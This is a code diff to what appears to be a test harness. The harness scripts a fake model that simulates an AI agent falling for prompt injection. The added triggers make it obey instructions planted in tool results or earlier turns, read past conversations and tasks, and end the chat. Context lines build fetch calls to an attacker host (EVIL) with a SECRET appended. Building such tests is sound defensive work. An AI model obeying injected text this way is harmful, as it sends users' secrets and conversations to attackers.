@@ -23,11 +23,14 @@ SECRET = "hunter2"
 """What the model knows from the person, and an attacker wants to have."""
 
 _USE, _SEND, _KEEP = "TAKE THE KEYS", "SEND: ", "MAKE A TASK: "
+_NOT_NOW, _ABOVE = "NOT NOW", "AS SAID ABOVE"
+_BACK, _TASKS = "LOOK BACK", "LOOK AT THE TASKS"
+_OLD = re.compile(r"^(\S+) · closed", re.MULTILINE)
 _READ = re.compile(r"(?:LOOK AT THE NEWS|BROWSE TO) (\S+)")
-_DO = re.compile(r"DO (write|run|burn|fetch|search) (\w+)")
+_DO = re.compile(r"DO (write|run|burn|fetch|search|end) (\w+)")
 _GET = re.compile(r"GET (\S+)")
 _STEP = re.compile(r"^\d+\. (write|run|burn|web_fetch|search_with_claude) (\{.*\})$", re.MULTILINE)
-TOOLS = {"fetch": "web_fetch", "search": "search_with_claude"}
+TOOLS = {"fetch": "web_fetch", "search": "search_with_claude", "end": "end_conversation"}
 """The tools whose names are not those of their orders."""
 
 
@@ -53,6 +56,26 @@ def sent_out(words: str) -> str:
     return f"{_SEND}{words}"
 
 
+def not_now(words: str) -> str:
+    """Returns words that the model reads and does not obey before somebody points at them."""
+    return f"{_NOT_NOW}: {words}"
+
+
+def as_above(words: str) -> str:
+    """Returns words that let the model obey all that it has read in the talk."""
+    return f"{words} {_ABOVE}"
+
+
+def looking_back(words: str) -> str:
+    """Returns words that let the model read the earlier conversations of the chat."""
+    return f"{_BACK} {words}"
+
+
+def looking_at_tasks(words: str) -> str:
+    """Returns words that let the model read the tasks of the chat."""
+    return f"{_TASKS} {words}"
+
+
 def kept(words: str) -> str:
     """Returns words that let the model make a task of the rest, with its calls approved."""
     return f"{_KEEP}{words}"
@@ -60,8 +83,8 @@ def kept(words: str) -> str:
 
 def arguments(act: str, what: str) -> dict[str, Any]:
     """Returns the arguments of the call that an order leads to."""
-    if act == "search":
-        return {}
+    if act in ("search", "end"):
+        return {} if act == "search" else {"reason": what}
     return {"url": f"{EVIL}{SECRET}{what}"} if act == "fetch" else {"what": what}
 
 
@@ -99,11 +122,16 @@ class Talked(Listing):
         yield replace(made, usage=Usage(input=10, output=2_000)) if self.costly else made
 
     def _reply(self, request: ModelRequest) -> ModelReply:
-        opening, since = _turn(request)
+        opening, since, earlier = _turn(request)
         obeyed = (part for part in opening if self.obeys_memory or not part.startswith(MEMORY))
         words = "\n".join(obeyed)
         made = [part for part in since if isinstance(part, CallPart)]
         read = "\n".join(part.text for part in since if isinstance(part, ResultPart))
+        now, puts_off, _ = words.partition(_NOT_NOW)
+        if puts_off:
+            words, read = now, ""
+        elif _ABOVE in words:
+            read = "\n".join([*earlier, read])
         for wanted in self._wanted(words, read):
             fresh = [one for one in wanted if not _among(made, one)]
             if fresh:
@@ -118,6 +146,11 @@ class Talked(Listing):
         words, sends, errand = before.partition(_SEND)
         for page in _READ.findall(words):
             yield [self._call("web_fetch", url=page)]
+        if _TASKS in words:
+            yield [self._call("list_tasks")]
+        if _BACK in words:
+            yield [self._call("get_conversation")]
+            yield [self._call("get_conversation", conversation_id=id) for id in _OLD.findall(read)]
         orders = [*_DO.findall(words), *_DO.findall(read)]
         if _USE in words + read:
             yield [self._call("use_skill", name="keys")]
@@ -155,8 +188,8 @@ def _whole(found: re.Match[str]) -> str:
     return f"GET {arguments('fetch', found[2])['url']}" if found[1] == "fetch" else found[0]
 
 
-def _turn(request: ModelRequest) -> tuple[list[str], list[object]]:
-    """Returns the parts that began the newest turn, and all that came after them."""
+def _turn(request: ModelRequest) -> tuple[list[str], list[object], list[str]]:
+    """Returns the parts that began the newest turn, all that came after them, and words before."""
     begun = max(
         at
         for at, message in enumerate(request.messages)
@@ -164,7 +197,12 @@ def _turn(request: ModelRequest) -> tuple[list[str], list[object]]:
     )
     parts = request.messages[begun].parts
     opening = [part.text for part in parts if isinstance(part, TextPart)]
-    return opening, [part for message in request.messages[begun + 1 :] for part in message.parts]
+    since: list[object] = [
+        part for message in request.messages[begun + 1 :] for part in message.parts
+    ]
+    before = [part for message in request.messages[:begun] for part in message.parts]
+    earlier = [part.text for part in before if isinstance(part, TextPart | ResultPart)]
+    return opening, since, earlier
 
 
 def _among(made: list[CallPart], wanted: ToolCall) -> bool:
